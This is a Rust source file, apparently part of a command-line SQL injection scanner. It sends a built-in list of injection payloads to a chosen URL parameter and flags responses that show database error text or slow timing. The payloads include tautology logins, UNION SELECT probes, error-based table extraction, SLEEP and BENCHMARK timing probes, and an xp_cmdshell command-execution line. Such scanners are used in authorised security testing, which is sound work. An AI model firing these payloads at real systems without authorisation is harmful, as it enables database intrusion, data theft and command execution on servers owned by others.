use std::fmt;
use std::path::Path;
use std::time::{Duration, Instant};

use anyhow::{Context, Result};
use clap::ValueEnum;
use colored::Colorize;
use reqwest::Client;
use tokio_util::sync::CancellationToken;
use tracing::warn;

use crate::probe::{run_session, ProbeOutcome};
use crate::types::{SqliFinding, SqliSignal};

/// Classic probe payloads covering error-, boolean-, union-, and time-based
/// injection.
pub const DEFAULT_PAYLOADS: &[&str] = &[
    "' OR 1=1-- -",
    "' OR '1'='1",
    "\" OR \"1\"=\"1",
    "' OR 1=1#",
    "' OR 1=1/*",
    "admin'--",
    "1' ORDER BY 1--+",
    "1' UNION SELECT 1,2,3--+",
    "' AND 1=CONVERT(int,(SELECT table_name FROM information_schema.tables))--",
    "' EXEC xp_cmdshell('dir')--",
    "' OR EXISTS(SELECT * FROM users WHERE username='admin' AND LENGTH(password)>0)--",
    "' OR SLEEP(5)--",
    "' OR BENCHMARK(10000000,MD5(NOW()))--",
];

/// Database error text that marks a response as suspicious. Matched
/// case-insensitively against the body.
pub const ERROR_INDICATORS: &[&str] = &[
    "syntax error",
    "mysql",
    "sql",
    "warning",
    "unclosed quotation",
    "unterminated string",
    "you have an error",
    "time-based blind",
    "violation of primary key",
];

/// Share of the request timeout above which a response counts as a
/// time-based signal.
const SLOW_RESPONSE_RATIO: f64 = 0.8;

#[derive(Debug, Clone, Copy, PartialEq, Eq, ValueEnum)]
pub enum Method {
    Get,
    Post,
}

impl fmt::Display for Method {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(match self {
            Method::Get => "GET",
            Method::Post => "POST",
        })
    }
}

/// Case-insensitive scan of a response body for database error text.
pub fn body_indicates_injection(body: &str) -> Option<&'static str> {
    let lower = body.to_lowercase();
    ERROR_INDICATORS
        .iter()
        .copied()
        .find(|ind| lower.contains(ind))
}

/// Load payloads from a file (one per line, blank lines skipped), or fall
/// back to the built-in list. An unreadable or empty file is a warning, not
/// an error.
pub fn load_payloads(path: Option<&Path>) -> Vec<String> {
    if let Some(p) = path {
        match std::fs::read_to_string(p) {
            Ok(content) => {
                let list: Vec<String> = content
                    .lines()
                    .map(str::trim)
                    .filter(|l| !l.is_empty())
                    .map(str::to_string)
                    .collect();
                if !list.is_empty() {
                    return list;
                }
                warn!("payload file is empty, using defaults: {}", p.display());
            }
            Err(e) => {
                warn!("payload file not readable ({e}), using defaults: {}", p.display());
            }
        }
    }
    DEFAULT_PAYLOADS.iter().map(|s| s.to_string()).collect()
}

/// Test every payload against one URL parameter. All payloads are always
/// sent; per-payload request failures are logged and skipped.
pub async fn test_url(
    url: &str,
    param: &str,
    method: Method,
    payloads: Vec<String>,
    workers: usize,
    timeout: Duration,
) -> Result<Vec<SqliFinding>> {
    let client = Client::builder()
        .timeout(timeout)
        .build()
        .context("failed to build HTTP client")?;

    println!(
        "{} Testing {url} on parameter '{param}' using {method} method",
        "[*]".blue()
    );
    println!(
        "{} Loaded {} payloads with {} workers",
        "[*]".blue(),
        payloads.len(),
        workers
    );

    let url = url.to_string();
    let param = param.to_string();
    let report = run_session(
        payloads,
        workers,
        CancellationToken::new(),
        None,
        move |payload| {
            test_payload(
                client.clone(),
                url.clone(),
                param.clone(),
                method,
                payload,
                timeout,
            )
        },
        |_| false,
    )
    .await;

    Ok(report.findings)
}

async fn test_payload(
    client: Client,
    url: String,
    param: String,
    method: Method,
    payload: String,
    timeout: Duration,
) -> ProbeOutcome<SqliFinding> {
    // The client URL-encodes query and form values; no manual quoting, which
    // would double-encode.
    let request = match method {
        Method::Get => client.get(&url).query(&[(param.as_str(), payload.as_str())]),
        Method::Post => client.post(&url).form(&[(param.as_str(), payload.as_str())]),
    };

    let start = Instant::now();
    match request.send().await {
        Ok(response) => {
            let body = match response.text().await {
                Ok(b) => b,
                Err(e) => {
                    return ProbeOutcome::Transient(format!(
                        "failed to read response for {payload}: {e}"
                    ))
                }
            };
            let elapsed = start.elapsed().as_secs_f64();

            if let Some(indicator) = body_indicates_injection(&body) {
                println!(
                    "{} Possible SQLi with payload: {payload} (matched \"{indicator}\")",
                    "[W]".yellow()
                );
                return ProbeOutcome::Finding(SqliFinding {
                    payload,
                    signal: SqliSignal::ErrorPattern(indicator.to_string()),
                });
            }

            if elapsed > timeout.as_secs_f64() * SLOW_RESPONSE_RATIO {
                println!(
                    "{} Time-based possible with payload: {payload} (response: {elapsed:.2}s)",
                    "[W]".yellow()
                );
                return ProbeOutcome::Finding(SqliFinding {
                    payload,
                    signal: SqliSignal::SlowResponse { seconds: elapsed },
                });
            }

            ProbeOutcome::NoFinding
        }
        Err(e) if e.is_timeout() => {
            println!(
                "{} Timeout with payload: {payload} (possible blind SQLi)",
                "[W]".yellow()
            );
            ProbeOutcome::Finding(SqliFinding {
                payload,
                signal: SqliSignal::Timeout,
            })
        }
        Err(e) => ProbeOutcome::Transient(format!("request failed for {payload}: {e}")),
    }
}
